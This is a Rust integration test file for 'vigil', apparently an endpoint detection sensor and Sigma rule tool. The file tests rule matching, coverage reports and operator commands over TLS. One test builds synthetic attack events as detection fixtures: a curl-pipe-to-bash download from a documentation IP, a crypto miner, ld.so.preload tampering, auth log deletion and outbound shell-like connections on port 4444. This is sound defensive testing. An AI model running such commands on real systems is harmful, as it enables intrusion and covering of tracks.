//! The `vigil` binary as a user runs it.

use std::io::{BufRead, BufReader, Write};
use std::process::{Command, Stdio};

/// `vigil rules match … | head -1`: the reader goes away after one line;
/// vigil ends quietly and successfully instead of panicking on the closed pipe.
#[test]
fn a_closed_output_pipe_ends_match_quietly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let rule = dir.path().join("r.yml");
    std::fs::write(
        &rule,
        "title: cat\nid: 11111111-2222-4333-8444-555555555555\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: /cat\n  condition: s\n",
    )
    .expect("rule");
    let events = dir.path().join("e.jsonl");
    let mut f = std::fs::File::create(&events).expect("events");
    for _ in 0..200_000 {
        writeln!(f, r#"{{"Image":"/usr/bin/cat","CommandLine":"cat x"}}"#).expect("write");
    }
    drop(f);
    let mut child = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["rules", "match"])
        .arg(&rule)
        .arg("--events")
        .arg(&events)
        .args(["--logsource", "linux/process_creation"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let mut first = String::new();
    BufReader::new(child.stdout.take().expect("stdout"))
        .read_line(&mut first)
        .expect("read");
    assert!(
        first.contains("11111111-2222-4333-8444-555555555555"),
        "{first}"
    );
    // stdout is dropped here: the pipe closes while vigil still writes.
    let out = child.wait_with_output().expect("wait");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success(),
        "status {:?}, stderr: {stderr}",
        out.status
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

fn vigil(args: &[&std::ffi::OsStr]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(args)
        .output()
        .expect("run vigil")
}

/// `vigil rules check` says, after the load report, how many rules the
/// sensor can feed and why not the others; rules it cannot feed do not
/// change the exit status, rejected ones do.
#[test]
fn check_reports_what_the_sensor_can_feed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let write = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).expect("rule");
    write(
        "a.yml",
        "title: a\nid: a\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image|endswith: /id}, condition: s}\n",
    );
    write(
        "b.yml",
        "title: b\nid: b\nlogsource: {product: linux, service: syslog}\ndetection: {s: [segfault], condition: s}\n",
    );
    write(
        "c.yml",
        "title: c\nid: c\nlogsource: {product: linux, service: auditd}\ndetection: {s: {type: SYSCALL, key: k}, condition: s}\n",
    );
    let out = vigil(&["rules".as_ref(), "check".as_ref(), dir.path().as_os_str()]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(stdout.contains("3 loaded, 0 rejected"), "{stdout}");
    assert!(
        stdout.contains("sensor can feed 1 of 3 rules; not fed: 2 (linux/service=syslog not collected: 1, field `key` not provided for linux/service=auditd: 1)"),
        "{stdout}"
    );
    let out = vigil(&[
        "rules".as_ref(),
        "check".as_ref(),
        "--json".as_ref(),
        dir.path().as_os_str(),
    ]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON object");
    assert_eq!(v["coverage"]["fed"], 1);
    assert_eq!(v["coverage"]["not_fed"], serde_json::json!(["b", "c"]));
    assert_eq!(v["coverage"]["reasons"][1]["field"], "key");
    assert_eq!(v["coverage"]["reasons"][1]["rules"], 1);
    write(
        "d.yml",
        "title: d\nlogsource: {product: linux}\ndetection: {condition: s}\n",
    );
    let out = vigil(&["rules".as_ref(), "check".as_ref(), dir.path().as_os_str()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("sensor can feed 1 of 3 rules"));
}

/// Sensor records written as JSON lines and matched by `vigil rules match`
/// fire exactly the rules the sensor's evaluator fires on the records.
#[test]
fn sensor_json_lines_match_as_the_sensor_decided() {
    use std::sync::Arc;
    use vigil_proto::v1::{
        Direction, FileEvent, FileOperation, NetworkConnection, Path as PbPath, ProcessRef,
        ProcessStart, Record, TransportProtocol, record::Payload,
    };
    let rules = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let corpus = std::env::var_os("VIGIL_SIGMA_CORPUS")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| {
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/sigma")
        })
        .join("rules/linux");
    let mut paths = vec![rules];
    if corpus.is_dir() {
        paths.push(corpus);
    } else {
        eprintln!("Sigma corpus not found: Vigil's own rules only (set VIGIL_SIGMA_CORPUS)");
    }
    let (set, report) = vigil_rules::RuleSet::load_paths(&paths);
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    let set = Arc::new(set);
    let pb = |p: &str| {
        Some(PbPath {
            text: p.into(),
            ..Default::default()
        })
    };
    let pref = |pid: u32, exe: &str, cmd: &str| ProcessRef {
        guid: format!("g{pid}"),
        pid,
        executable: pb(exe),
        command_line: cmd.into(),
    };
    let start = |pid: u32, exe: &str, argv: &[&str], missing: bool| {
        Payload::ProcessStart(ProcessStart {
            guid: format!("g{pid}"),
            pid,
            parent_pid: 1,
            executable: pb(exe),
            argv: argv.iter().map(|a| a.as_bytes().to_vec()).collect(),
            command_line: argv.join(" "),
            argv_missing: missing,
            user_name: "root".into(),
            parent: Some(pref(1, "/usr/bin/bash", "bash -i")),
            ..Default::default()
        })
    };
    let file = |op: FileOperation, path: &str, exe: &str| {
        Payload::File(FileEvent {
            operation: op as i32,
            path: pb(path),
            process: Some(pref(50, exe, exe)),
            persistence: "cron".into(),
            ..Default::default()
        })
    };
    let net = |exe: &str, remote: &str, port: u32| {
        Payload::Network(NetworkConnection {
            protocol: TransportProtocol::Tcp as i32,
            direction: Direction::Outbound as i32,
            local_address: "10.0.0.5".into(),
            local_port: 40000,
            remote_address: remote.into(),
            remote_port: port,
            process: Some(pref(60, exe, exe)),
            ..Default::default()
        })
    };
    let payloads = vec![
        start(
            10,
            "/usr/bin/curl",
            &["curl", "-s", "http://203.0.113.9/x.sh", "|", "bash"],
            false,
        ),
        start(11, "/usr/bin/whoami", &["whoami"], false),
        start(12, "/tmp/xmrig", &["./xmrig", "--cpu-priority", "5"], false),
        start(13, "/usr/bin/kworker", &[], true),
        start(14, "/usr/bin/chmod", &["chmod", "+x", "/tmp/x"], false),
        file(FileOperation::Create, "/etc/cron.d/x", "/usr/bin/vi"),
        file(FileOperation::Modify, "/etc/ld.so.preload", "/usr/bin/tee"),
        file(FileOperation::Delete, "/var/log/auth.log", "/usr/bin/rm"),
        Payload::ProcessExit(Default::default()),
        net("/usr/bin/bash", "203.0.113.9", 4444),
        net("/tmp/.x/nc", "198.51.100.1", 3333),
        Payload::Health(Default::default()),
    ];
    let mut evaluator =
        vigil_evaluate::Evaluator::new(Arc::clone(&set), vigil_rules::EngineConfig::default());
    let mut expected: Vec<(usize, String)> = Vec::new();
    let mut lines = String::new();
    let mut line_of_record = Vec::new();
    for (i, p) in payloads.iter().enumerate() {
        let time = 1_700_000_000_000_000_000 + i as i64 * 1_000_000_000;
        let record = Record {
            sequence: i as u64,
            time_unix_ns: time,
            payload: Some(p.clone()),
            ..Default::default()
        };
        for d in evaluator.evaluate(time, p, &[]) {
            expected.push((i, d.rule_id));
        }
        for l in vigil_evaluate::to_json_lines(&record, &[]) {
            line_of_record.push(i);
            lines.push_str(&l.to_string());
            lines.push('\n');
        }
    }
    assert!(expected.len() >= 8, "{expected:?}");
    let dir = tempfile::tempdir().expect("tempdir");
    let events = dir.path().join("sensor.jsonl");
    std::fs::write(&events, lines).expect("events");
    let mut args: Vec<&std::ffi::OsStr> = vec!["rules".as_ref(), "match".as_ref()];
    args.extend(paths.iter().map(|p| p.as_os_str()));
    args.extend(["--events".as_ref(), events.as_os_str()]);
    let out = vigil(&args);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    // Lines that are not events are skipped without a word.
    assert!(!stderr.contains("skipped"), "{stderr}");
    let mut got: Vec<(usize, String)> = Vec::new();
    for l in String::from_utf8_lossy(&out.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(l).expect("match line");
        let line = v["event"].as_u64().expect("event line") as usize;
        let hit = (
            line_of_record[line],
            v["rule"].as_str().expect("rule").to_owned(),
        );
        // A rule fires once per record, whichever of its lines matched.
        if !got.contains(&hit) {
            got.push(hit);
        }
    }
    expected.sort();
    got.sort();
    assert_eq!(got, expected);
}

/// The governance commands against a stand-in Operator service over real
/// TLS: what goes on the wire (the bearer token; `x-vigil-tenant` only with
/// `--tenant` or `VIGIL_TENANT`) and what a person or a script reads back.
mod governance {
    use std::path::{Path, PathBuf};
    use std::process::{Command, Output};
    use std::sync::{Arc, Mutex};
    use tonic::transport::{Identity, Server, ServerTlsConfig};
    use tonic::{Request, Response, Status};
    use vigil_proto::v1::operator_server::{Operator, OperatorServer};
    use vigil_proto::v1::*;

    /// One call as the server saw it: method, `authorization`, `x-vigil-tenant`.
    type Seen = Arc<Mutex<Vec<(&'static str, Option<String>, Option<String>)>>>;

    struct Fake(Seen);

    impl Fake {
        fn record<T>(&self, method: &'static str, r: &Request<T>) {
            let h = |name| {
                r.metadata()
                    .get(name)
                    .map(|v| v.to_str().expect("ascii").to_owned())
            };
            self.0
                .lock()
                .expect("lock")
                .push((method, h("authorization"), h("x-vigil-tenant")));
        }
    }

    fn tenant() -> TenantInfo {
        TenantInfo {
            tenant_id: "acme-7f3a".into(),
            name: "Acme".into(),
            region: "eu".into(),
            retention_days: 90,
            created_unix_ns: 1_700_000_000_000_000_000,
            devices: 2,
            store_bytes: 3 * 1024 * 1024 + 512 * 1024,
            served: true,
            ..Default::default()
        }
    }

    #[tonic::async_trait]
    impl Operator for Fake {
        async fn create_tenant(
            &self,
            r: Request<CreateTenantRequest>,
        ) -> Result<Response<CreateTenantResponse>, Status> {
            self.record("CreateTenant", &r);
            Ok(Response::new(CreateTenantResponse {
                tenant: Some(tenant()),
                admin_token: "vgl_admin_secret".into(),
                admin_token_info: None,
            }))
        }
        async fn list_tenants(
            &self,
            r: Request<ListTenantsRequest>,
        ) -> Result<Response<ListTenantsResponse>, Status> {
            self.record("ListTenants", &r);
            Ok(Response::new(ListTenantsResponse {
                tenants: vec![tenant()],
                regions: vec!["eu".into()],
            }))
        }
        async fn get_tenant(
            &self,
            r: Request<GetTenantRequest>,
        ) -> Result<Response<TenantInfo>, Status> {
            self.record("GetTenant", &r);
            Err(Status::permission_denied("no grant for tenant t9"))
        }
        async fn delete_tenant(
            &self,
            r: Request<DeleteTenantRequest>,
        ) -> Result<Response<DeleteTenantResponse>, Status> {
            self.record("DeleteTenant", &r);
            Err(Status::unimplemented(""))
        }
        async fn rotate_master_key(
            &self,
            r: Request<RotateMasterKeyRequest>,
        ) -> Result<Response<RotateMasterKeyResponse>, Status> {
            self.record("RotateMasterKey", &r);
            Err(Status::unimplemented(""))
        }
        async fn request_access(
            &self,
            r: Request<RequestAccessRequest>,
        ) -> Result<Response<AccessGrant>, Status> {
            self.record("RequestAccess", &r);
            Err(Status::unimplemented(""))
        }
        async fn list_my_access_grants(
            &self,
            r: Request<ListAccessGrantsRequest>,
        ) -> Result<Response<ListAccessGrantsResponse>, Status> {
            self.record("ListMyAccessGrants", &r);
            Ok(Response::new(ListAccessGrantsResponse {
                grants: vec![AccessGrant {
                    grant_id: "g1".into(),
                    tenant_id: "acme-7f3a".into(),
                    state: "pending".into(),
                    reason: "ticket 4711".into(),
                    ..Default::default()
                }],
            }))
        }
    }

    /// Starts the stand-in and writes an operator profile for it.
    async fn start(dir: &Path, seen: Seen) -> PathBuf {
        let ca = vigil_pki::CertificateAuthority::generate("test CA").expect("CA");
        let cert = ca.issue_server(&["localhost".into()]).expect("cert");
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind");
        let addr = listener.local_addr().expect("addr");
        let tls = ServerTlsConfig::new().identity(Identity::from_pem(cert.cert_pem, cert.key_pem));
        let server = Server::builder()
            .tls_config(tls)
            .expect("tls")
            .add_service(OperatorServer::new(Fake(seen)))
            .serve_with_incoming(tokio_stream::wrappers::TcpListenerStream::new(listener));
        tokio::spawn(server);
        std::fs::write(dir.join("ca.pem"), ca.cert_pem()).expect("ca.pem");
        let profile = dir.join("operator.toml");
        std::fs::write(
            &profile,
            format!(
                "endpoint = \"https://{addr}\"\nca_file = \"{}\"\nserver_name = \"localhost\"\ntoken = \"vgl_op\"\nrole = \"operator\"\n",
                dir.join("ca.pem").display()
            ),
        )
        .expect("profile");
        profile
    }

    async fn vigil(profile: &Path, args: &[&str], tenant_env: Option<&str>) -> Output {
        let mut c = Command::new(env!("CARGO_BIN_EXE_vigil"));
        c.arg("--profile").arg(profile).args(args);
        c.env_remove("VIGIL_PROFILE").env_remove("VIGIL_TENANT");
        if let Some(t) = tenant_env {
            c.env("VIGIL_TENANT", t);
        }
        tokio::task::spawn_blocking(move || c.output().expect("run vigil"))
            .await
            .expect("join")
    }

    fn text(b: &[u8]) -> String {
        String::from_utf8_lossy(b).into_owned()
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn operator_commands_over_tls() {
        let dir = tempfile::tempdir().expect("tempdir");
        let seen = Seen::default();
        let profile = start(dir.path(), seen.clone()).await;
        let last = || seen.lock().expect("lock").last().cloned().expect("a call");

        // A table; the bearer token and no tenant header.
        let o = vigil(&profile, &["tenant", "list"], None).await;
        assert!(o.status.success(), "{}", text(&o.stderr));
        let out = text(&o.stdout);
        let lines: Vec<&str> = out.lines().collect();
        assert!(lines[0].starts_with("id         name  region"), "{out}");
        assert!(
            lines[1].contains("acme-7f3a") && lines[1].contains("3.5 MiB"),
            "{out}"
        );
        assert_eq!(last(), ("ListTenants", Some("Bearer vgl_op".into()), None));

        // --tenant and VIGIL_TENANT add the header; --json gives a line of JSON per tenant.
        let o = vigil(
            &profile,
            &["--tenant", "acme-7f3a", "tenant", "list", "--json"],
            None,
        )
        .await;
        assert!(o.status.success(), "{}", text(&o.stderr));
        let v: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).expect("json");
        assert_eq!(v["tenant_id"], "acme-7f3a");
        assert_eq!(v["store_bytes"], 3 * 1024 * 1024 + 512 * 1024);
        assert_eq!(last().2.as_deref(), Some("acme-7f3a"));
        let o = vigil(&profile, &["tenant", "list"], Some("other")).await;
        assert!(o.status.success());
        assert_eq!(last().2.as_deref(), Some("other"));

        // A refusal reads `error: <code>: <message>`, exit status 1.
        let o = vigil(&profile, &["tenant", "show", "t9"], None).await;
        assert_eq!(o.status.code(), Some(1));
        assert_eq!(
            text(&o.stderr),
            "error: permission denied: no grant for tenant t9\n"
        );
        assert!(o.stdout.is_empty());

        // The new admin token as `key value` lines; the hint goes to stderr.
        let o = vigil(&profile, &["tenant", "create", "Acme"], None).await;
        assert!(o.status.success(), "{}", text(&o.stderr));
        assert_eq!(
            text(&o.stdout),
            "tenant_id acme-7f3a\nadmin_token vgl_admin_secret\n"
        );
        assert!(text(&o.stderr).contains("shown once"));

        // The profile says `operator`: its own grants, with no Admin call first.
        let before = seen.lock().expect("lock").len();
        let o = vigil(&profile, &["access", "list"], None).await;
        assert!(o.status.success(), "{}", text(&o.stderr));
        assert!(text(&o.stdout).contains("pending"), "{}", text(&o.stdout));
        let calls = seen.lock().expect("lock");
        assert_eq!(calls.len(), before + 1);
        assert_eq!(calls[before].0, "ListMyAccessGrants");
    }
}
